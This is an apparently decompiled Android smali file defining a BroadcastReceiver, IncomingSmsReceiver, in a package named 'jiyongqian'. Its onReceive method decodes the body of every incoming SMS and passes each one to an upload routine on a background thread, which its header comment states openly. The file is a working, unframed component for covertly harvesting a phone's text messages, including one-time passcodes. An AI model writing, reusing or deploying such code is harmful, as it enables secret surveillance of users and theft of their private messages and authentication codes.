# SPDX-License-Identifier: Apache-2.0
# Reads the body of every incoming message and posts it from a background thread.
.class public Lcom/example/jiyongqian/IncomingSmsReceiver;
.super Landroid/content/BroadcastReceiver;
.source "IncomingSmsReceiver.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 8
    invoke-virtual {p2}, Landroid/content/Intent;->getExtras()Landroid/os/Bundle;
    move-result-object v0
    if-eqz v0, :done
    const-string v1, "pdus"
    invoke-virtual {v0, v1}, Landroid/os/Bundle;->get(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, [Ljava/lang/Object;
    if-eqz v0, :done
    const/4 v1, 0x0
    array-length v2, v0
    :next
    if-ge v1, v2, :done
    aget-object v3, v0, v1
    check-cast v3, [B
    invoke-static {v3}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v3
    invoke-virtual {v3}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v3
    invoke-static {v3}, Lcom/example/jiyongqian/SmsUploadThread;->upload(Ljava/lang/String;)V
    add-int/lit8 v1, v1, 0x1
    goto :next
    :done
    return-void
.end method
